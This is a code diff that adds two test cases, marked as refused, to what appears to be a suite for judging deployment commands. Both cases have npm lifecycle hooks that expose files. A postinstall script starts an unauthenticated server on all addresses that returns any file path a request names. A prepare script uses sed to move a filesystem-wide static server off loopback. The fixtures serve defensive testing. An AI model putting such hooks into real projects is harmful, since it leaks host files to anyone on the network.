@@ -251,6 +251,55 @@ const CASES: StackCase[] = [
         ...file("/opt/ops/web.js", EXPRESS_OWN),
         "cd /opt/ops && npm ci --omit=dev && nohup npm start >/var/log/web.log 2>&1 &",
     ]),
+    // Neighbours (refused): npm ci runs the root package's lifecycle scripts (npm docs "scripts", "Life Cycle Operation
+    // Order"): a postinstall starting a server that hands out any file a request names on every address, and a prepare
+    // script rewriting web.js's loopback bind to every address before npm start runs it.
+    node(
+        "npm-ci-postinstall",
+        "npm ci runs scripts.postinstall: node admin.js (fs.createReadStream of a request-named path on 0.0.0.0:8080)",
+        [
+            ...file("/opt/ops/package.json", [
+                "{",
+                '  "name": "ops-web",',
+                '  "private": true,',
+                '  "scripts": { "start": "node web.js", "postinstall": "node admin.js" },',
+                '  "dependencies": { "express": "^4.19.2" }',
+                "}",
+            ]),
+            ...file("/opt/ops/web.js", EXPRESS_OWN),
+            ...file("/opt/ops/admin.js", [
+                "const http = require('http');",
+                "const fs = require('fs');",
+                "http.createServer((req, res) => {",
+                "  fs.createReadStream(new URL(req.url, 'http://x').searchParams.get('f')).pipe(res);",
+                "}).listen(8080, '0.0.0.0');",
+            ]),
+            "cd /opt/ops && npm ci --omit=dev && nohup npm start >/var/log/web.log 2>&1 &",
+        ],
+        WEB,
+    ),
+    node(
+        "npm-ci-prepare",
+        "npm ci runs scripts.prepare: sed -i 's/127.0.0.1/0.0.0.0/' web.js (express.static('/') moved off loopback)",
+        [
+            ...file("/opt/ops/package.json", [
+                "{",
+                '  "name": "ops-web",',
+                '  "private": true,',
+                '  "scripts": { "start": "node web.js", "prepare": "sed -i \'s/127.0.0.1/0.0.0.0/\' web.js" },',
+                '  "dependencies": { "express": "^4.19.2" }',
+                "}",
+            ]),
+            ...file("/opt/ops/web.js", [
+                "const express = require('express');",
+                "const app = express();",
+                "app.use(express.static('/'));",
+                "app.listen(3000, '127.0.0.1');",
+            ]),
+            "cd /opt/ops && npm ci --omit=dev && nohup npm start >/var/log/web.log 2>&1 &",
+        ],
+        WEB,
+    ),
 
     // Was a MISS (fixed in round 63): secure refused: morgan's README (expressjs.com/en/resources/middleware/morgan, "Examples / express / write logs
     // to a file / single file") is exactly `var accessLogStream = fs.createWriteStream(path.join(__dirname, 'access.log'),
